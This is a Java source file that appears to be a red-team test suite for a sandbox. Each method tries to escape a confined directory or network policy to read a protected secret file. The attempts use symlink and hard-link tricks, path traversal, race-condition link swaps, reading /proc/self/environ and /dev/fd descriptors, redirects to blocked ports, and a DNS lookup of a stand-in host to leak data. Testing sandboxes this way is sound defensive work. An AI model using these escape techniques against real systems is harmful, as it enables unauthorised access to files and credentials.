import static org.dvm.security.redteam.Host.PORT;
import static org.dvm.security.redteam.Host.SECRET;

import java.io.*;
import java.net.*;
import java.nio.*;
import java.nio.channels.*;
import java.nio.file.*;
import java.util.*;
import java.util.concurrent.*;
import java.util.concurrent.atomic.*;
import org.dvm.security.redteam.Host;
import org.dvm.security.redteam.HostObjects;

/** Has a directory and a server of its own, and uses what it may do to reach what it may not. */
public class ResidentAttacks {
    static final Path OWN = Host.OWN;
    static Path fresh(String end) { return OWN.resolve("r" + System.nanoTime() + end); }

    public static boolean linkAbsolute() throws Exception { Path l = Files.createSymbolicLink(fresh("l"), SECRET); return Files.readString(l).startsWith("TOP"); }
    public static boolean linkRelative() throws Exception { Path l = Files.createSymbolicLink(fresh("l"), OWN.relativize(SECRET)); return Files.readString(l).startsWith("TOP"); }
    public static boolean linkToDirectory() throws Exception { Path l = Files.createSymbolicLink(fresh("l"), SECRET.getParent()); return Files.readString(l.resolve(SECRET.getFileName())).startsWith("TOP"); }
    public static boolean linkMoved() throws Exception { Path deep = Files.createDirectories(fresh("d").resolve("a/b/c")); Files.writeString(deep.resolve("../../../x").normalize(), "x"); Path l = Files.createSymbolicLink(deep.resolve("l"), Path.of("../../../..").resolve(SECRET.getFileName())); Path moved = Files.move(l, OWN.resolve("moved" + System.nanoTime())); return Files.exists(moved) || Files.isSymbolicLink(moved); }
    public static boolean linkInMovedDirectory() throws Exception { Path deep = Files.createDirectories(fresh("d").resolve("a/b")); Files.createSymbolicLink(deep.resolve("l"), Path.of("../../../" + SECRET.getFileName())); Path moved = Files.move(deep, OWN.resolve("movedd" + System.nanoTime())); return Files.isSymbolicLink(moved.resolve("l")); }
    public static boolean hardLink() throws Exception { Path l = Files.createLink(fresh("h"), SECRET); return Files.readString(l).startsWith("TOP"); }
    public static boolean copyIn() throws Exception { Path c = Files.copy(SECRET, fresh("c")); return Files.readString(c).startsWith("TOP"); }
    public static boolean copyLinkIn() throws Exception { Path c = Files.copy(HostObjects.link(), fresh("c"), LinkOption.NOFOLLOW_LINKS); return Files.isSymbolicLink(c) && Files.readString(c).startsWith("TOP"); }
    public static boolean moveIn() throws Exception { Path v = Host.victim(); Path m = Files.move(v, fresh("m")); return Files.exists(m); }
    public static boolean moveOut() throws Exception { Path f = Files.writeString(fresh("f"), "x"); Files.move(f, Path.of(SECRET + ".moved")); return true; }
    public static boolean renameOver() throws Exception { Path f = Files.writeString(fresh("f"), "x"); return f.toFile().renameTo(Host.victim().toFile()); }
    public static boolean copyOver() throws Exception { Path f = Files.writeString(fresh("f"), "x"); Files.copy(f, Host.victim(), StandardCopyOption.REPLACE_EXISTING); return true; }
    public static boolean dotDotString() throws Exception { Path up = OWN.toRealPath(); String name = OWN + "/.." + "/" + up.getParent().relativize(SECRET); try (InputStream in = new FileInputStream(name)) { return in.read() == 'T'; } }
    public static boolean dotDotFile() throws Exception { Path up = OWN.toRealPath().getParent(); return new File(OWN.toFile(), "../" + up.relativize(SECRET)).length() > 0; }
    public static boolean dotDotInLink() throws Exception { Path d = Files.createDirectories(fresh("d")); Path l = Files.createSymbolicLink(fresh("l"), d); try (InputStream in = new FileInputStream(l + "/../../" + OWN.toRealPath().getParent().relativize(SECRET))) { return in.read() == 'T'; } }
    public static boolean prefixName() throws Exception { Path p = Path.of(OWN + "-other"); Files.writeString(p, "x"); return HostObjects.run(() -> Files.deleteIfExists(p)); }
    public static boolean nulName() throws Exception { try (InputStream in = new FileInputStream(OWN + "/../" + OWN.toRealPath().getParent().relativize(SECRET) + (System.getProperty("none") == null ? "" : "\0"))) { return in.read() == 'T'; } }
    public static boolean emptyName() throws Exception { return new File("").getAbsoluteFile().list().length >= 0 && new File(".").listFiles() != null; }
    public static boolean directoryEntry() throws Exception { try (var d = (SecureDirectoryStream<Path>) Files.newDirectoryStream(OWN)) { try (var c = d.newByteChannel(Path.of("..").resolve(OWN.toRealPath().getParent().relativize(SECRET)), Set.of(StandardOpenOption.READ))) { return c.read(ByteBuffer.allocate(3)) == 3; } } }
    public static boolean directoryMoved() throws Exception { Path deep = Files.createDirectories(fresh("d").resolve("a/b/c")); try (var d = (SecureDirectoryStream<Path>) Files.newDirectoryStream(deep)) { Path moved = Files.move(deep, OWN.resolve("movede" + System.nanoTime())); try (var c = d.newByteChannel(Path.of("../..").resolve(OWN.toRealPath().getParent().relativize(SECRET)), Set.of(StandardOpenOption.READ))) { return c.read(ByteBuffer.allocate(3)) == 3; } } }
    public static boolean directoryOther() throws Exception { try (var d = (SecureDirectoryStream<Path>) Files.newDirectoryStream(OWN); var other = HostObjects.directory()) { other.move(Host.victim().getFileName(), d, Path.of("stolen" + System.nanoTime())); return true; } }
    public static boolean zipSlip() throws Exception { Path z = fresh(".zip"); try (var fs = FileSystems.newFileSystem(URI.create("jar:" + z.toUri()), Map.of("create", "true"))) { Files.copy(SECRET, fs.getPath("/in")); return Files.readString(fs.getPath("/in")).startsWith("TOP"); } }
    public static boolean zipOut() throws Exception { Path z = fresh(".zip"); try (var fs = FileSystems.newFileSystem(URI.create("jar:" + z.toUri()), Map.of("create", "true"))) { Files.writeString(fs.getPath("/in"), "x"); Files.copy(fs.getPath("/in"), Path.of(SECRET + ".zipout")); return HostObjects.run(() -> Files.deleteIfExists(Path.of(SECRET + ".zipout"))); } }
    public static boolean lyingFile() throws Exception { Path mine = Files.writeString(fresh("f"), "x"); File f = new File(SECRET.toString()) { @Override public String getPath() { return mine.toString(); } @Override public String toString() { return mine.toString(); } @Override public String getAbsolutePath() { return mine.toString(); } }; return f.length() > 3; }
    public static boolean lyingWatchable() throws Exception { return SECRET.getParent().register(FileSystems.getDefault().newWatchService(), StandardWatchEventKinds.ENTRY_CREATE) != null; }
    public static boolean mutatingArray() throws Exception { OpenOption[] o = {StandardOpenOption.READ}; Thread t = new Thread(() -> { for (int i = 0; i < 100_000; i++) { o[0] = StandardOpenOption.WRITE; o[0] = StandardOpenOption.READ; } }); t.start(); for (int i = 0; i < 200; i++) { try (var c = Files.newByteChannel(SECRET, o)) { return true; } catch (SecurityException | IOException e) { continue; } } t.join(); return false; }
    public static boolean swapLink() throws Exception { Path f = Files.writeString(fresh("f"), "x"), l = fresh("l"); Files.createSymbolicLink(l, f); var stop = new AtomicBoolean(); Thread t = new Thread(() -> { while (!stop.get()) { try { Path n = fresh("n"); Files.createSymbolicLink(n, SECRET); Files.move(n, l, StandardCopyOption.REPLACE_EXISTING, StandardCopyOption.ATOMIC_MOVE); } catch (Exception e) { Thread.onSpinWait(); } } }); t.start(); try { for (int i = 0; i < 300; i++) { try { if (Files.readString(l).startsWith("TOP")) { return true; } } catch (IOException | SecurityException e) { continue; } } } finally { stop.set(true); t.join(); } return false; }
    public static boolean swapDirectory() throws Exception { Path d = Files.createDirectories(fresh("d")); Files.writeString(d.resolve(SECRET.getFileName()), "x"); Path l = fresh("l"); Files.createSymbolicLink(l, d); Files.delete(l); Files.createSymbolicLink(l, SECRET.getParent()); return Files.readString(l.resolve(SECRET.getFileName())).startsWith("TOP"); }
    public static boolean tempElsewhere() throws Exception { return Files.exists(Files.createTempFile(SECRET.getParent(), "a", "b")); }
    public static boolean tempPrefix() throws Exception { return Files.exists(Files.createTempDirectory("x")); }
    public static boolean cacheFile() throws Exception { javax.imageio.ImageIO.setCacheDirectory(OWN.toFile()); return new javax.imageio.stream.FileCacheImageInputStream(new ByteArrayInputStream(new byte[1]), SECRET.getParent().toFile()).read() == 0; }
    public static boolean procSelf() throws Exception { Path l = Files.createSymbolicLink(fresh("l"), Path.of("/proc/self/environ")); return Files.readAllBytes(l).length > 0; }
    public static boolean devFd() throws Exception { HostObjects.nioStream(); for (int i = 3; i < 300; i++) { try (InputStream in = new FileInputStream("/dev/fd/" + i)) { if (in.read() == 'T') { return true; } } catch (IOException e) { continue; } } return false; }
    public static boolean procFd() throws Exception { HostObjects.nioStream(); for (int i = 3; i < 300; i++) { try (InputStream in = new FileInputStream("/proc/self/fd/" + i)) { if (in.read() == 'T') { return true; } } catch (IOException e) { continue; } } return false; }
    public static boolean fifoExec() throws Exception { Path s = Files.writeString(fresh(".sh"), "#!/bin/sh\ncat " + SECRET); s.toFile().setExecutable(true); return new ProcessBuilder(s.toString()).start().getInputStream().read() == 'T'; }
    public static boolean ownLibrary() throws Exception { Path s = Files.writeString(fresh(".so"), "x"); try { System.load(s.toString()); } catch (UnsatisfiedLinkError e) { return true; } return true; }
    public static boolean ownClasses() throws Exception { try (URLClassLoader l = new URLClassLoader(new URL[] {OWN.toUri().toURL()})) { return l.getURLs().length == 1; } }
    public static boolean pkcs11() throws Exception { Path lib = Files.writeString(fresh(".so"), "x"), s = Files.writeString(fresh(".cfg"), "name=x" + System.lineSeparator() + "library=" + lib); try { HostObjects.run(() -> java.security.Security.getProvider("SunPKCS11")).configure(s.toString()); } catch (java.security.ProviderException e) { for (Throwable t = e; t != null; t = t.getCause()) { if (t instanceof SecurityException) { throw (SecurityException) t; } } return true; } return true; }
    public static boolean connectOtherPort() throws Exception { try (Socket c = new Socket(InetAddress.getLoopbackAddress(), PORT)) { return c.getInputStream().read() == 'H'; } }
    public static boolean listenOnOtherPort() throws Exception { try (ServerSocket s = new ServerSocket(0, 5, InetAddress.getLoopbackAddress())) { return s.getLocalPort() > 0; } }
    public static boolean listenByFactory() throws Exception { try (ServerSocket s = javax.net.ServerSocketFactory.getDefault().createServerSocket(0, 5, InetAddress.getLoopbackAddress())) { return s.getLocalPort() > 0; } }
    public static boolean bindOtherPort() throws Exception { try (DatagramSocket s = new DatagramSocket(0, InetAddress.getLoopbackAddress())) { return s.getLocalPort() > 0; } }
    public static boolean listenEverywhere() throws Exception { try (ServerSocket s = new ServerSocket(0)) { return true; } }
    public static boolean udpEverywhere() throws Exception { try (DatagramSocket s = new DatagramSocket()) { return true; } }
    public static boolean redirect() throws Exception { var s = com.sun.net.httpserver.HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), Host.ALLOWED_PORT), 0); s.createContext("/", x -> { x.getResponseHeaders().set("Location", "http://127.0.0.1:" + PORT + "/"); x.sendResponseHeaders(302, -1); x.close(); }); s.start(); try { return new URL("http://127.0.0.1:" + Host.ALLOWED_PORT + "/").openStream().read() == 'h'; } finally { s.stop(0); } }
    public static boolean redirectClient() throws Exception { var s = com.sun.net.httpserver.HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), Host.ALLOWED_PORT), 0); s.createContext("/", x -> { x.getResponseHeaders().set("Location", "http://127.0.0.1:" + PORT + "/"); x.sendResponseHeaders(302, -1); x.close(); }); s.start(); try { return java.net.http.HttpClient.newBuilder().followRedirects(java.net.http.HttpClient.Redirect.ALWAYS).build().send(java.net.http.HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + Host.ALLOWED_PORT + "/")).build(), java.net.http.HttpResponse.BodyHandlers.ofString()).body().startsWith("h"); } finally { s.stop(0); } }
    public static boolean lyingAddress() throws Exception { InetSocketAddress a = InetSocketAddress.createUnresolved("localhost", PORT); try (Socket s = new Socket()) { s.connect(new InetSocketAddress(InetAddress.getByAddress("allowed.example", new byte[] {127, 0, 0, 1}), PORT)); return true; } }
    public static boolean datagramChanged() throws Exception { try (DatagramSocket s = new DatagramSocket(0, InetAddress.getLoopbackAddress())) { s.send(new DatagramPacket(new byte[1], 1, InetAddress.getLoopbackAddress(), PORT)); return true; } }
    public static boolean resolverLeak() throws Exception { try { InetAddress.getByName("secret-data.example.org"); } catch (UnknownHostException e) { return true; } return true; }
    public static boolean serveOwn() throws Exception { return HostObjects.run(() -> 1) == 1 && com.sun.net.httpserver.HttpServer.create(new InetSocketAddress("0.0.0.0", 0), 0) != null; }
}
